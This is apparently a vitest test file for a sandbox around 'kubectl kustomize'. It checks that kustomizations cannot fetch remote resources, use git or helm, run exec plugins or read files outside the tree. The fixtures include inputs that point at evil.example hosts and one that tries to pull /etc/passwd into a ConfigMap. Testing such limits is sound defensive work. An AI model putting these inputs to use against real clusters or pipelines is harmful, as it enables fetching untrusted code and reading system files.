import { execFile, spawnSync } from 'node:child_process'
import { createServer, type Server } from 'node:http'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { findProgram, openProgramRunner, type ProgramRun } from '../../../src/io/program.ts'
import { withProgramRoom } from '../../../src/io/program-room.ts'

const kubectl = findProgram(['kubectl'], { env: process.env })
const unshare = findProgram(['unshare'], { env: process.env })
const hasIsland = unshare !== undefined && spawnSync(unshare.path, ['-rn', 'true']).status === 0

let server: Server
let address = ''
let requests = 0
beforeAll(async () => {
  server = createServer((_, response) => {
    requests += 1
    response.end('apiVersion: v1\nkind: ConfigMap\nmetadata: {name: fetched}\n')
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const at = server.address()
  address = `http://127.0.0.1:${typeof at === 'object' && at ? at.port : 0}/x.yaml`
})
afterAll(() => void server.close())

/** Runs kubectl on a kustomization that no scan has seen. */
function bypass(text: string, path: string | undefined): Promise<ProgramRun> {
  if (!kubectl) throw new Error('no kubectl')
  const tree = new Map([['app/kustomization.yaml', text]])
  return withProgramRoom(tree, room =>
    openProgramRunner({ env: { PATH: path } }).run(kubectl, ['kustomize', '--', `${room.tree}/app`], room)
  )
}

const errorsOf = (run: ProgramRun): string => (run.kind === 'ended' ? run.errors : run.why)

test.skipIf(!kubectl)('the server would be asked without the walls (skipped without kubectl)', async () => {
  await withProgramRoom(new Map([['kustomization.yaml', `resources: ["${address}"]`]]), async room => {
    const output = await new Promise<string>(resolve => {
      execFile(kubectl?.path ?? '', ['kustomize', room.tree], (_, text) => resolve(text))
    })
    expect(output).toContain('name: fetched')
  })
  expect(requests).toBe(1)
  requests = 0
})

describe.skipIf(!kubectl)('behind the walls (K-02; skipped without kubectl)', () => {
  test.skipIf(!hasIsland)(
    'a server on loopback is out of reach (skipped where the kernel gives no network of its own)',
    async () => {
      const run = await bypass(`resources: ["${address}"]`, process.env['PATH'])
      expect(run.kind === 'ended' && run.status).not.toBe(0)
      expect(errorsOf(run)).toMatch(/unreachable|refused/)
      expect(requests).toBe(0)
    }
  )

  test('any other server is asked through a closed port, also where no program takes the network away', async () => {
    const run = await bypass('resources: ["http://evil.example/x.yaml"]', undefined)
    expect(run.kind === 'ended' && run.status).not.toBe(0)
    expect(errorsOf(run)).toMatch(/127\.0\.0\.1:9/)
  })

  test('git is not found', async () => {
    const run = await bypass('resources: ["https://evil.example/org/repo?ref=main"]', undefined)
    expect(run.kind === 'ended' && run.status).not.toBe(0)
    expect(errorsOf(run)).toMatch(/git|127\.0\.0\.1:9/)
  })

  test.each([
    [
      'helm is off',
      'helmCharts: [{name: x, repo: "https://evil.example", releaseName: x}]',
      /must specify --enable-helm/
    ],
    [
      'plugins are off',
      'generators: ["apiVersion: x.example.com/v1\\nkind: Thing\\nmetadata: {name: x, annotations: {config.kubernetes.io/function: \\"exec: {path: /bin/true}\\"}}"]',
      /external plugins disabled|unable to load|plugin/
    ],
    ['files outside are refused', 'configMapGenerator: [{name: x, files: [/etc/passwd]}]', /is not in or below/]
  ])('%s', async (_, text, reason) => {
    const run = await bypass(text, process.env['PATH'])
    expect(run.kind === 'ended' && run.status).not.toBe(0)
    expect(errorsOf(run)).toMatch(reason)
  })
})
